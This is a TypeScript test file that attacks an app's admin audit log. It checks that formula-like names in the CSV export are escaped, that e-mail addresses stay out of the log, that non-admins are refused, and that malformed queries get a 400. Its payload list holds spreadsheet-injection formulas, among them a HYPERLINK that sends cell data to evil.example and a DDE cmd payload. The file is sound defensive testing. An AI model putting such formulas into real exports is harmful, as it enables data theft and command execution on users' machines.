// A hostile review of the audit log (decision 061): who can read it, what its CSV does with a name
// written to run as a spreadsheet formula, what it keeps of people, and what odd queries get.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  createAdmin,
  createStudent,
  createTeacher,
  type TestUser,
} from "../../../../tests/factories/users.ts";
import { errorOf } from "../../../../tests/setup/error-body.ts";
import { createTestApp, type TestApp } from "../../../../tests/setup/test-app.ts";

let t: TestApp;
let admin: TestUser;
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+SUM(1,1)",
  "-2+3",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
];
const hostile: TestUser[] = [];

beforeAll(async () => {
  t = await createTestApp();
  admin = await createAdmin(t);
  for (const name of FORMULAS) {
    const who = await createTeacher(t, { name });
    hostile.push(who);
    // An audited action of theirs, so their name is the CSV's "Who".
    const res = await t.request("POST", "/api/me/sessions/revoke", {
      cookie: who.cookie,
      body: { includeThisDevice: false },
    });
    expect(res.status).toBe(200);
  }
  // A class named like a formula, offered and cancelled: its name is in the entry's details.
  const cls = await t.request("POST", "/api/classes", {
    cookie: hostile[0].cookie,
    body: { name: "=1+1", description: "" },
  });
  const { id } = (await cls.json()) as { id: string };
  const offer = await t.request("POST", `/api/classes/${id}/transfer`, {
    cookie: hostile[0].cookie,
    body: { email: hostile[1].email },
  });
  expect(offer.status).toBe(201);
});
afterAll(() => t.close());

const csv = async () => {
  const res = await t.request("GET", "/api/admin/audit.csv", { cookie: admin.cookie });
  expect(res.status).toBe(200);
  return res.text();
};

/** The cells of a CSV line (RFC 4180 quoting), enough for these rows. */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      out.push(cell);
      cell = "";
    } else cell += ch;
  }
  out.push(cell);
  return out;
}

describe("the audit log's CSV", () => {
  it("never starts a cell with = + - @: a name written as a formula stays text", async () => {
    const lines = (await csv())
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    const all = lines.flatMap(cells);
    for (const name of FORMULAS) {
      expect(all).toContain(`'${name}`);
      expect(all).not.toContain(name);
    }
    for (const cell of all) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("keeps ids, not e-mail addresses; names only joined in while the account exists", async () => {
    const text = await csv();
    for (const who of hostile) expect(text).not.toContain(who.email);
    const page = await t.request("GET", "/api/admin/audit", { cookie: admin.cookie });
    const raw = JSON.stringify(await page.json());
    for (const who of hostile) expect(raw).not.toContain(who.email);
  });
});

describe("who reads it, and odd queries", () => {
  it("a teacher or student gets 403, a stranger 401, for the page and the CSV", async () => {
    const student = await createStudent(t);
    for (const path of ["/api/admin/audit", "/api/admin/audit.csv"]) {
      expect((await t.request("GET", path, { cookie: student.cookie })).status).toBe(403);
      expect((await t.request("GET", path, { cookie: hostile[0].cookie })).status).toBe(403);
      expect((await t.request("GET", path)).status).toBe(401);
    }
  });

  it("an out-of-range page or unknown action is a 400, never a 500", async () => {
    for (const query of [
      "before=99999999999999999999",
      "before=1e20",
      "before=9223372036854775808",
      "before=-1",
      "before=0",
      "before=1.5",
      "before=abc",
      "before=",
      "action=__proto__",
      "action=constructor",
      "action=toString",
    ]) {
      const res = await t.request("GET", `/api/admin/audit?${query}`, { cookie: admin.cookie });
      expect(res.status, query).toBe(400);
      expect((await errorOf(res)).code).toBe("VALIDATION");
      const file = await t.request("GET", `/api/admin/audit.csv?${query}`, { cookie: admin.cookie });
      expect(file.status, `csv ${query}`).toBeLessThan(500);
    }
    expect(
      (await t.request("GET", "/api/admin/audit?before=9007199254740991", { cookie: admin.cookie })).status,
    ).toBe(200);
  });
});
